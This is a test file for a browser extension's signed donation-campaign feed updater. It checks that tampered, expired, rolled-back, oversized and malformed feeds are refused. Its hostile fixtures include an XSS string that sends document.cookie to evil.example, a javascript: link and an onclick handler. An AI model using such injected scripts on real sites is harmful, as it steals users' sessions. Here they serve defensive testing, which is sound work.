// @vitest-environment node
// Node's own fetch against a real HTTP server on 127.0.0.1: the transport limits are real, not simulated.
import type { ServerResponse } from 'node:http';
import { base64 } from '@scure/base';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { bundledCampaign } from '@/utils/campaign/bundled';
import { dismissChangeNotice, loadChangeNotices, NOTICE_MS } from '@/utils/campaign-in-use/change-notices';
import { loadCampaign } from '@/utils/campaign-in-use/load';
import { applyFeed, refreshCampaign, refreshIfStale } from '@/utils/campaign-in-use/refresh';
import type { CheckReason } from '@/utils/feed/check-reason';
import { FEED_LIMITS } from '@/utils/feed/fetch';
import { loadVersionFloor } from '@/utils/feed/store';
import { acceptedCampaign, lastCheck, updatesEnabled } from '@/utils/storage/update-state';
import { campaignVersion, goodUpdate } from '../../support/campaign-versions';
import { type FixtureServer, startServer } from '../../support/local-server';
import { makeSigner, OTHER_BITCOIN } from '../../support/signed-feeds';

type Signer = Awaited<ReturnType<typeof makeSigner>>;
type Answer = (res: ServerResponse) => void;

let server: FixtureServer;
let signer: Signer;
let stranger: Signer;
let answer: Answer;
/** Bytes the server managed to write for the current answer: proves a cut-off happened while streaming. */
let bytesSent = 0;
/** Whether the server got to the end of its answer, or the client hung up first. */
let bodyFinished = false;

const json =
  (body: string, type = 'application/json'): Answer =>
  (res) => {
    res.writeHead(200, { 'content-type': type });
    res.end(body);
  };

const FAST = { ...FEED_LIMITS, timeoutMs: 1500 };

beforeAll(async () => {
  signer = await makeSigner();
  stranger = await makeSigner();
  server = await startServer({
    routes: [
      (req, res) => {
        if (req.url !== '/feed.json') return false;
        bytesSent = 0;
        bodyFinished = false;
        answer(res);
        return true;
      },
    ],
  });
});
afterAll(() => server?.close());

beforeEach(async () => {
  fakeBrowser.reset();
  vi.stubEnv('FEED_URL', `${server.url}/feed.json`);
  vi.stubEnv('FEED_PUBLIC_KEY', signer.publicKey);
  server.requests.length = 0;
});

/** Everything a user could see change: the campaign in use, the stored update, the address notices. */
const snapshot = async () => ({
  campaign: await loadCampaign(),
  stored: await acceptedCampaign.getValue(),
  changes: await loadChangeNotices(),
  floor: await loadVersionFloor(bundledCampaign.version),
});

describe('a good update', () => {
  it('is fetched without credentials or referrer, accepted, and flags the changed address with its date', async () => {
    answer = json(await signer.sign(goodUpdate(bundledCampaign.version + 1)));
    const outcome = await refreshCampaign(FAST);
    expect(outcome).toMatchObject({ checked: true, ok: true, changed: true });
    const campaign = await loadCampaign();
    expect(campaign.version).toBe(bundledCampaign.version + 1);
    expect(campaign.donations.find((d) => d.kind === 'bitcoin')?.account).toBe(OTHER_BITCOIN);
    expect([...(await loadChangeNotices()).values()]).toEqual([
      expect.objectContaining({
        subject: 'donation:bitcoin',
        before: bundledBitcoin,
        after: OTHER_BITCOIN,
        on: '2026-12-01',
      }),
    ]);
    expect(await lastCheck.getValue()).toMatchObject({ ok: true, code: 'updated', reason: /updated to version/ });
    const [request] = server.requests;
    expect(request?.headers.cookie).toBeUndefined();
    expect(request?.headers.referer).toBeUndefined();
  });

  it('the same feed again is "up to date" and changes nothing', async () => {
    answer = json(await signer.sign(goodUpdate(bundledCampaign.version + 1)));
    await refreshCampaign(FAST);
    const before = await snapshot();
    expect(await refreshCampaign(FAST)).toMatchObject({
      ok: true,
      changed: false,
      code: 'upToDate',
      reason: /up to date/,
    });
    expect(await snapshot()).toEqual(before);
  });
});

const v = bundledCampaign.version;
const DAY = 24 * 60 * 60 * 1000;
const bundledBitcoin = bundledCampaign.donations.find((d) => d.kind === 'bitcoin')?.account;
/** The hostile feeds, served for real. The campaign in use is version v+1, an accepted update. */
const HOSTILE: [string, () => Promise<Answer>, RegExp][] = [
  [
    'bad signature',
    async () => {
      const feed = JSON.parse(await signer.sign(goodUpdate(v + 2)));
      const signature = base64.decode(feed.signature);
      signature[0] = (signature[0] ?? 0) ^ 0x80;
      return json(JSON.stringify({ ...feed, signature: base64.encode(signature) }));
    },
    /signature is not the campaign's/,
  ],
  [
    'signature by another key',
    async () => json(await stranger.sign(goodUpdate(v + 2))),
    /signature is not the campaign's/,
  ],
  ['older version', async () => json(await signer.sign(campaignVersion(v))), /rollback refused/],
  [
    'expired feed',
    async () =>
      json(await signer.sign(goodUpdate(v + 2), { notBefore: Date.now() - 60 * DAY, expires: Date.now() - DAY })),
    /the feed expired on \d{4}-\d\d-\d\dT/,
  ],
  [
    'feed not yet valid',
    async () =>
      json(await signer.sign(goodUpdate(v + 2), { notBefore: Date.now() + 2 * DAY, expires: Date.now() + 60 * DAY })),
    /the feed is not valid before \d{4}-/,
  ],
  [
    'old format, without a validity window',
    async () => json(await signer.signBytes(new TextEncoder().encode(JSON.stringify(goodUpdate(v + 2))))),
    /lacks notBefore\/expires/,
  ],
  [
    'same version, other content',
    async () => json(await signer.sign(campaignVersion(v + 1))),
    /already in use with other content/,
  ],
  [
    'Bitcoin address with a broken checksum, validly signed',
    async () =>
      json(
        await signer.sign(
          campaignVersion(v + 2, (c) => {
            const bitcoin = c.donations.find((d) => d.kind === 'bitcoin');
            if (bitcoin) bitcoin.account = OTHER_BITCOIN.replace('Na', 'Nb');
          }),
        ),
      ),
    /Bitcoin address checksum/,
  ],
  [
    'http link',
    async () =>
      json(
        await signer.sign(
          campaignVersion(v + 2, (c) => {
            c.links[0]!.url = 'http://example.org/';
          }),
        ),
      ),
    /https/,
  ],
  [
    'javascript: link',
    async () =>
      json(
        await signer.sign(
          campaignVersion(v + 2, (c) => {
            c.links[0]!.url = 'javascript:alert(document.cookie)';
          }),
        ),
      ),
    /links\[0\]\.url/,
  ],
  [
    'script HTML',
    async () =>
      json(
        await signer.sign(
          campaignVersion(v + 2, (c) => {
            c.summary.short.en = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
          }),
        ),
      ),
    /summary\.short\.en contains HTML markup/,
  ],
  [
    'event-handler HTML',
    async () =>
      json(
        await signer.sign(
          campaignVersion(v + 2, (c) => {
            c.timeline[0]!.text.en = 'Detained <a href="#" onclick="steal()">here</a>';
          }),
        ),
      ),
    /timeline\.0\.text\.en contains HTML markup/,
  ],
  [
    '10 MB body',
    async () => (res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      const send = () => {
        while (bytesSent < 10 * 1024 * 1024) {
          bytesSent += chunk.length;
          if (!res.write(chunk)) return void res.once('drain', send);
        }
        bodyFinished = true;
        res.end();
      };
      res.on('error', () => {});
      send();
    },
    /larger than 256 KB/,
  ],
  [
    'body that never finishes',
    async () => (res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"format": "solidarity-call-feed/1", ');
    },
    /no complete answer within 1.5 s/,
  ],
  ['invalid JSON', async () => json('{"format": "solidarity-call-feed/1", "payload": "'), /not valid JSON/],
  [
    'wrong content type',
    async () => json(await signer.sign(goodUpdate(v + 2)), 'text/html; charset=utf-8'),
    /served as text\/html/,
  ],
  [
    'server error',
    async () => (res) => {
      res.writeHead(500).end();
    },
    /answered 500/,
  ],
];

/** The reason code each hostile feed is refused with: what the options page says in the user's language. */
const CODES: Record<string, CheckReason> = {
  'bad signature': 'badSignature',
  'signature by another key': 'badSignature',
  'older version': 'rollback',
  'expired feed': 'expired',
  'feed not yet valid': 'notYetValid',
  'old format, without a validity window': 'invalidCampaign',
  'same version, other content': 'replay',
  'Bitcoin address with a broken checksum, validly signed': 'invalidCampaign',
  'http link': 'invalidCampaign',
  'javascript: link': 'invalidCampaign',
  'script HTML': 'markup',
  'event-handler HTML': 'markup',
  '10 MB body': 'tooLarge',
  'body that never finishes': 'timeout',
  'invalid JSON': 'malformed',
  'wrong content type': 'contentType',
  'server error': 'httpStatus',
};

describe('hostile feeds, served over HTTP: each is rejected with a reason and changes nothing', () => {
  it('each has its reason code', () => {
    expect(Object.keys(CODES).sort()).toEqual(HOSTILE.map(([name]) => name).sort());
  });

  it.each(HOSTILE)('%s', async (name, hostile, reason) => {
    answer = json(await signer.sign(goodUpdate(v + 1)));
    await refreshCampaign(FAST);
    const before = await snapshot();
    expect(before.campaign.version).toBe(v + 1);

    answer = await hostile();
    const outcome = await refreshCampaign(FAST);
    const code = CODES[name];
    expect(outcome).toMatchObject({
      checked: true,
      ok: false,
      changed: false,
      code,
      reason: expect.stringMatching(reason),
    });
    expect(await lastCheck.getValue()).toMatchObject({ ok: false, code, reason: expect.stringMatching(reason) });
    expect(await snapshot()).toEqual(before);
  });

  it('cuts a 10 MB body off while it streams, long before the end', async () => {
    answer = await HOSTILE.find(([name]) => name === '10 MB body')![1]();
    await refreshCampaign(FAST);
    await new Promise((r) => setTimeout(r, 200));
    // The client stops reading past 256 KB; what is in flight is socket buffers, not the 10 MB.
    console.info(`10 MB feed: the server wrote ${bytesSent} bytes before the client cut it off`);
    expect(bodyFinished).toBe(false);
    expect(bytesSent).toBeLessThan(10 * 1024 * 1024);
  });

  it('keeps the real limits at 10 s and 256 KB', () => {
    expect(FEED_LIMITS).toEqual({ timeoutMs: 10_000, maxBytes: 256 * 1024 });
  });
});

describe('when no request is made', () => {
  it('makes none with updates turned off', async () => {
    answer = json(await signer.sign(goodUpdate(v + 1)));
    await updatesEnabled.setValue(false);
    expect(await refreshCampaign(FAST)).toEqual({ checked: false });
    expect(await refreshIfStale()).toEqual({ checked: false });
    expect(server.requests).toEqual([]);
    expect((await loadCampaign()).version).toBe(v);
  });

  it('makes none in a build without a feed', async () => {
    vi.stubEnv('FEED_URL', '');
    expect(await refreshCampaign(FAST)).toEqual({ checked: false });
    expect(server.requests).toEqual([]);
  });

  it('answers checks asked at the same time with one request', async () => {
    answer = json(await signer.sign(goodUpdate(v + 1)));
    const [a, b] = await Promise.all([refreshCampaign(FAST), refreshCampaign(FAST)]);
    expect(a).toEqual(b);
    expect(server.requests).toHaveLength(1);
  });

  it('checks from the popup only when the last check is stale', async () => {
    answer = json(await signer.sign(goodUpdate(v + 1)));
    await lastCheck.setValue({ at: Date.now() - 60_000, ok: true, reason: 'up to date' });
    expect(await refreshIfStale()).toEqual({ checked: false });
    expect(server.requests).toEqual([]);
    await lastCheck.setValue({ at: Date.now() - 25 * 60 * 60 * 1000, ok: true, reason: 'up to date' });
    expect(await refreshIfStale()).toMatchObject({ checked: true, changed: true });
    expect(server.requests).toHaveLength(1);
  });
});

describe('the version never goes backwards', () => {
  it('replay after storage loss: the stored update is gone, an older signed feed is still refused', async () => {
    answer = json(await signer.sign(goodUpdate(v + 2)));
    await refreshCampaign(FAST);
    await acceptedCampaign.removeValue();
    expect((await loadCampaign()).version).toBe(v);
    answer = json(await signer.sign(goodUpdate(v + 1)));
    expect(await refreshCampaign(FAST)).toMatchObject({ ok: false, code: 'rollback', reason: /accepted before/ });
    expect(await acceptedCampaign.getValue()).toBeNull();
    // Other content under the lost version is a replay; the very update the user had comes back.
    answer = json(await signer.sign(campaignVersion(v + 2)));
    expect(await refreshCampaign(FAST)).toMatchObject({ ok: false, code: 'replay' });
  });

  it('after the loss, the very feed accepted before is accepted again', async () => {
    const feed = await signer.sign(goodUpdate(v + 2));
    answer = json(feed);
    await refreshCampaign(FAST);
    await acceptedCampaign.removeValue();
    expect(await refreshCampaign(FAST)).toMatchObject({ ok: true, code: 'updated' });
    expect((await loadCampaign()).version).toBe(v + 2);
  });

  it.each([
    ['the newer check is delayed before saving', v + 3, v + 2],
    ['the older check is delayed before saving', v + 2, v + 3],
  ])('two checks at once (%s): the higher version wins', async (_, slow, fast) => {
    const delay = () => new Promise<void>((resolve) => setTimeout(resolve, 150));
    const key = base64.decode(signer.publicKey);
    const results = await Promise.all([
      applyFeed(await signer.sign(goodUpdate(slow)), key, { beforeSave: delay }),
      applyFeed(await signer.sign(goodUpdate(fast)), key),
    ]);
    expect((await loadCampaign()).version).toBe(v + 3);
    expect((await loadVersionFloor(v)).version).toBe(v + 3);
    expect(results.map((r) => r.code).sort()).toEqual(slow > fast ? ['rollback', 'updated'] : ['updated', 'updated']);
  });

  it('the check repeated before saving refuses what became old meanwhile, even without the lock', async () => {
    const key = base64.decode(signer.publicKey);
    const newer = await signer.sign(goodUpdate(v + 3));
    // While the older update waits to save, a newer one lands (as if from another context, not serialised).
    const result = await applyFeed(await signer.sign(goodUpdate(v + 2)), key, {
      beforeSave: async () => {
        const { acceptedCampaign: stored } = await import('@/utils/storage/update-state');
        const { parseFeed, payloadDigest } = await import('@/utils/feed/format');
        const { versionFloor } = await import('@/utils/storage/update-state');
        const parsed = parseFeed(newer);
        if (!parsed.ok) throw new Error(parsed.reason);
        await stored.setValue({
          payload: base64.encode(parsed.value.payload),
          signature: base64.encode(parsed.value.signature),
        });
        await versionFloor.setValue({ version: v + 3, digest: await payloadDigest(parsed.value.payload) });
      },
    });
    expect(result).toMatchObject({ ok: false, code: 'rollback' });
    expect((await loadCampaign()).version).toBe(v + 3);
  });
});

describe('a changed address, donation page or link stays flagged for a week', () => {
  it('shows the old value next to the new until the week is over, whether or not the popup opened', async () => {
    const update = campaignVersion(v + 1, (c) => {
      const bitcoin = c.donations.find((d) => d.kind === 'bitcoin');
      if (bitcoin) bitcoin.account = OTHER_BITCOIN;
      c.donatePage.url = 'https://example.org/donate';
      if (c.links[0]) c.links[0].url = 'https://example.org/call';
    });
    answer = json(await signer.sign(update));
    await refreshCampaign(FAST);
    const now = Date.now();
    const subjects = (at: number) => loadChangeNotices(at).then((m) => [...m.keys()].sort());
    const expected = ['donatePage', 'donation:bitcoin', `link:${bundledCampaign.links[0]?.id}`].sort();
    expect(await subjects(now)).toEqual(expected);
    expect((await loadChangeNotices(now)).get('donatePage')).toMatchObject({
      before: bundledCampaign.donatePage.url,
      after: 'https://example.org/donate',
    });
    expect(await subjects(now + NOTICE_MS - DAY)).toEqual(expected);
    expect(await subjects(now + NOTICE_MS + DAY)).toEqual([]);
  });

  it('goes earlier only when the user dismisses it', async () => {
    answer = json(await signer.sign(goodUpdate(v + 1)));
    await refreshCampaign(FAST);
    await dismissChangeNotice('donation:bitcoin');
    expect(await loadChangeNotices()).toEqual(new Map());
  });
});
